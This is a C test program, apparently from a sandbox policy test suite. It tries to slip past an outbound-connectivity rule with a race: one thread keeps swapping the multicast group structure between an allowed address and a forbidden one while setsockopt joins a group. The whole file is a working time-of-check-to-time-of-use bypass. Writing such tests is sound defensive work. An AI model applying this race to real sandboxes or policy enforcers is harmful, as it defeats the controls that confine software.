// class: network
// rule: outbound_connectivity
// policy: group.yaml
// success: a thread rewrites the multicast group that is being joined
// proof: word
// timeout: 40
// unreported: the group that is allowed is often the one that is read
#include "attack.h"
#include <pthread.h>

static struct ip_mreq joining, allowed, other;
static volatile int over;

static void *rewrite(void *unused)
{
    while (!over) {
        joining = allowed;
        __asm__ volatile("" ::: "memory");
        joining = other;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

int main(void)
{
    pthread_t thread;
    time_t end = time(NULL) + patience(3);
    int fd = socket(AF_INET, SOCK_DGRAM, 0), joined = 0;
    allowed.imr_interface.s_addr = other.imr_interface.s_addr = htonl(INADDR_LOOPBACK);
    inet_pton(AF_INET, "239.1.2.3", &allowed.imr_multiaddr);
    inet_pton(AF_INET, "239.83.101.99", &other.imr_multiaddr);
    joining = other;
    pthread_create(&thread, NULL, rewrite, NULL);
    while (time(NULL) < end && !joined) {
        for (int i = 0; i < 100 && !joined; i++) {
            setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &joining, sizeof joining);
            setsockopt(fd, IPPROTO_IP, IP_DROP_MEMBERSHIP, &allowed, sizeof allowed);
            /* Who can leave it has joined it. */
            joined = setsockopt(fd, IPPROTO_IP, IP_DROP_MEMBERSHIP, &other, sizeof other) == 0;
        }
    }
    over = 1;
    pthread_join(thread, NULL);
    errno = EACCES;
    return joined ? reached() : stopped("the group that was judged was joined");
}
